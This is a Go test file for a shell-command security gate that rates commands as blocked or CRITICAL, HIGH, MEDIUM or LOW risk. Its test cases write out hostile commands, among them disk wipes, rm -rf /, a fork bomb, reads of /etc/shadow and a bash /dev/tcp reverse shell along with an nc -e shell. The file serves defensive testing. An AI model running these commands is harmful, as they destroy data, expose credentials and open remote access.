package security

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestGate_BlocksDestructiveCommands(t *testing.T) {
	g := NewGate()
	cases := []string{
		"rm -rf /",
		"sudo rm -rf / --no-preserve-root",
		"RM -RF /",
		"rm -fr /home",
		"dd if=/dev/zero of=/dev/sda bs=1M",
		"cat image > /dev/sdb",
		":(){ :|:& };:",
		"mkfs.ext4 /dev/sdb1",
		"fdisk /dev/sda",
		"parted /dev/nvme0n1 mklabel gpt",
		"wipefs -a /dev/sdc",
		"shred -u secrets.txt",
	}
	for _, cmd := range cases {
		v := g.Validate(cmd)
		if v.Allowed {
			t.Errorf("%q: expected blocked", cmd)
			continue
		}
		if v.Risk != RiskCritical {
			t.Errorf("%q: expected CRITICAL, got %s", cmd, v.Risk)
		}
		if len(v.Warnings) != 1 || !strings.HasPrefix(v.Warnings[0], "Blocked:") {
			t.Errorf("%q: expected a single Blocked warning, got %v", cmd, v.Warnings)
		}
	}
}

func TestGate_RmRfRootScenario(t *testing.T) {
	v := NewGate().Validate("rm -rf /")
	if v.Allowed || v.Risk.String() != "CRITICAL" {
		t.Fatalf("expected disallowed CRITICAL, got %+v", v)
	}
	if !strings.Contains(v.Warnings[0], "destructive filesystem operation") {
		t.Errorf("expected warning to name the class, got %q", v.Warnings[0])
	}
}

func TestGate_WarningPatternsRaiseToHigh(t *testing.T) {
	g := NewGate()
	cases := []string{
		"cat /etc/shadow",
		"echo x >> /etc/sudoers",
		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"nc -l -p 4444 -e /bin/sh",
		"echo 1 > /proc/sys/net/ipv4/ip_forward",
	}
	for _, cmd := range cases {
		v := g.Validate(cmd)
		if !v.Allowed {
			t.Errorf("%q: warning patterns must not block", cmd)
		}
		if v.Risk != RiskHigh {
			t.Errorf("%q: expected HIGH, got %s", cmd, v.Risk)
		}
		if len(v.Warnings) == 0 {
			t.Errorf("%q: expected warnings", cmd)
		}
	}
}

func TestGate_HeuristicsEscalateToMedium(t *testing.T) {
	g := NewGate()
	cases := map[string]string{
		"long":         "echo " + strings.Repeat("a", 600),
		"pipes":        "cat f | a | b | c | d | e | f",
		"substitution": "echo $(whoami)",
		"backticks":    "echo `id`",
	}
	for name, cmd := range cases {
		v := g.Validate(cmd)
		if !v.Allowed || v.Risk != RiskMedium {
			t.Errorf("%s: expected allowed MEDIUM, got %+v", name, v)
		}
	}
}

func TestGate_HeuristicsNeverLowerHigh(t *testing.T) {
	v := NewGate().Validate("cat /etc/passwd | a | b | c | d | e | f")
	if v.Risk != RiskHigh {
		t.Errorf("expected HIGH to survive MEDIUM heuristics, got %s", v.Risk)
	}
	if len(v.Warnings) != 2 {
		t.Errorf("expected 2 warnings, got %v", v.Warnings)
	}
}

func TestGate_SudoInformational(t *testing.T) {
	g := NewGate()
	v := g.Validate("sudo nmap -sS 10.0.0.1")
	if v.Risk != RiskLow {
		t.Errorf("sudo info must not escalate, got %s", v.Risk)
	}
	if len(v.Warnings) != 1 || !strings.HasPrefix(v.Warnings[0], "INFO:") {
		t.Errorf("expected one INFO warning, got %v", v.Warnings)
	}
	for _, cmd := range []string{"sudo -S nmap 10.0.0.1", "sudo -n true"} {
		if w := g.Validate(cmd).Warnings; len(w) != 0 {
			t.Errorf("%q: expected no warnings, got %v", cmd, w)
		}
	}
}

func TestGate_SudoCaseInsensitive(t *testing.T) {
	g := NewGate()
	for _, cmd := range []string{"SUDO id", "Sudo -s", "sudo -s"} {
		w := g.Validate(cmd).Warnings
		if len(w) != 1 || !strings.HasPrefix(w[0], "INFO:") {
			t.Errorf("%q: expected one INFO warning, got %v", cmd, w)
		}
	}
	if w := g.Validate("SUDO -S id").Warnings; len(w) != 0 {
		t.Errorf("expected no warnings for SUDO -S, got %v", w)
	}
}

func TestGate_PipeCount(t *testing.T) {
	g := NewGate(WithMaxPipes(2))
	if v := g.Validate("a | b | c"); v.Risk != RiskLow {
		t.Errorf("two pipes is at the limit, got %s", v.Risk)
	}
	v := g.Validate("a | b | c | d")
	if v.Risk != RiskMedium || len(v.Warnings) != 1 || !strings.Contains(v.Warnings[0], "many pipes (3)") {
		t.Errorf("expected MEDIUM with a 3-pipe warning, got %+v", v)
	}
}

func TestGate_EmptyAlwaysAllowed(t *testing.T) {
	for _, cmd := range []string{"", "   "} {
		v := NewGate().Validate(cmd)
		if !v.Allowed || v.Risk != RiskLow || len(v.Warnings) != 0 {
			t.Errorf("%q: expected allowed LOW, got %+v", cmd, v)
		}
	}
}

func TestGate_BenignCommand(t *testing.T) {
	v := NewGate().Validate("nmap -sV -p 80,443 example.com")
	if !v.Allowed || v.Risk != RiskLow || len(v.Warnings) != 0 {
		t.Errorf("expected clean verdict, got %+v", v)
	}
}

func TestGate_Thresholds(t *testing.T) {
	g := NewGate(WithMaxLength(10), WithMaxPipes(1))
	if v := g.Validate("echo hello world"); v.Risk != RiskMedium {
		t.Errorf("expected MEDIUM for length, got %s", v.Risk)
	}
	if v := g.Validate("a|b|c"); v.Risk != RiskMedium {
		t.Errorf("expected MEDIUM for pipes, got %s", v.Risk)
	}
	if v := g.Validate("a || b"); v.Risk != RiskLow {
		t.Errorf("logical or is not a pipe stage, got %s", v.Risk)
	}
}

func TestVerdict_JSON(t *testing.T) {
	data, err := json.Marshal(NewGate().Validate("rm -rf /"))
	if err != nil {
		t.Fatalf("marshal error: %v", err)
	}
	if !strings.Contains(string(data), `"risk_level":"CRITICAL"`) {
		t.Errorf("expected risk level by name, got %s", data)
	}
}
